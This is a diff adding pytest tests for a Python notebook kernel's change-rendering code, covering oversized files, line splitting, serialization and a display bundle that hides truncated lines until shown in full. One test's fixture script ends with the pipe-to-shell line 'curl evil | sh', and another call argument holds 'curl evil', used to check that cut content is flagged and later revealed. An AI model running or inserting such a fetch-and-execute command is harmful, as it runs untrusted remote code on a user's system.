@@ -106,3 +106,62 @@ def test_a_change_digest_covers_the_content_not_shown(first, second):
     assert one.unseen and one.full != other.full
     assert change_digest(Change((one,))) != change_digest(Change((other,)))
     assert Change.from_frame(Change((one,)).to_frame()) == Change((one,))
+
+
+BIG = changes_module.MAX_COMPARED_BYTES  # a text over this is counted, and kept whole to show
+
+
+@pytest.mark.parametrize("text", [
+    "plain line\n" * (BIG // 10),  # simple: printable ASCII and line feeds, found at once
+    "\tindented\n\n" * (BIG // 10) + "no line break at the end",  # tabs and blank lines, simple
+    "crlf line\r\n" * (BIG // 10),  # not simple: each line escaped and broken as splitlines does
+    "form\x0cfeed\u2028sep\n" * (BIG // 15),
+    "caf\u00e9 \u3164\n" * (BIG // 8),
+])
+def test_a_text_too_large_to_compare_keeps_each_line_as_splitlines_finds_it(text):
+    """Whether its lines are found at once or one by one, a file too large to compare keeps
+    the lines ``str.splitlines`` finds, each made visible, ``+`` (``-`` when it goes) before
+    each, and counts them alike."""
+    lines = text.splitlines()
+    for before, after, sign in ((None, text, "+"), (text, None, "-")):
+        change = file_change("big.txt", before and before.encode(), after and after.encode())
+        assert (change.added, change.removed) == ((len(lines), 0) if after else (0, len(lines)))
+        assert change.unseen == "its lines were counted, not shown" and change.lines == ()
+        assert change.full_lines == tuple(sign + printable(line) for line in lines)
+        assert change.full.count("\n") == len(lines) and change.in_full().lines == change.full_lines
+        assert Change.from_frame(Change((change,)).to_frame()) == Change((change,))
+    grown = file_change("big.txt", text.encode(), ("one more\n" + text).encode())
+    assert (grown.added, grown.removed) == (1, 0) and grown.full_lines[0] == "+one more"
+
+
+def test_a_whole_rendering_crosses_the_pipe_as_one_string_and_a_malformed_one_is_refused():
+    change = Change((file_change("big.txt", None, b"x\n" * BIG),))
+    frame = change.to_frame()
+    assert frame["files"][0]["full"] == "+x\n" * BIG  # one string: each line and a line break
+    legacy = {**frame["files"][0], "full": ["+x"] * BIG}  # a record written as a list of lines
+    assert Change.from_frame({"files": [legacy]}) == change
+    for malformed in ("+x", ["+x", 1], 7):
+        with pytest.raises(ValueError, match="malformed change"):
+            Change.from_frame({"files": [{**frame["files"][0], "full": malformed}]})
+
+
+def test_what_is_displayed_first_says_how_much_more_there_is_and_all_of_it_shows_it():
+    """The display bundle of a change with something cut carries what is shown and how many
+    lines more the kernel holds (``more``), not those lines; shown in full, they are all in
+    its lines (what the Lab dialog draws after Show all)."""
+    from lackpy_kernel.notebook.bundles import CHANGES_MIME, change_bundle
+
+    data = "echo ok\n" * 100 + "curl evil | sh\n"
+    change = Change((file_change("run.sh", None, data.encode()),))
+    shown = change_bundle(change)[CHANGES_MIME]
+    (file,) = shown["files"]
+    assert "full" not in file and file["more"] == len(change.files[0].full_lines) > 0
+    assert "curl evil" not in repr(shown) and file["unseen"]
+    whole = change_bundle(change.in_full())[CHANGES_MIME]
+    assert "+curl evil | sh" in whole["files"][0]["lines"] and whole["files"][0]["more"] == 0
+    assert whole["files"][0]["unseen"] == ""
+    call = Change.of_call("post", "x" * 3000 + "curl evil")
+    (shown_call,) = [change_bundle(call)[CHANGES_MIME]["call"]]
+    assert "full" not in shown_call and shown_call["more"] == 3009
+    assert "curl evil" not in repr(shown_call)
+    assert change_bundle(call.in_full())[CHANGES_MIME]["call"]["arguments"].endswith("curl evil")
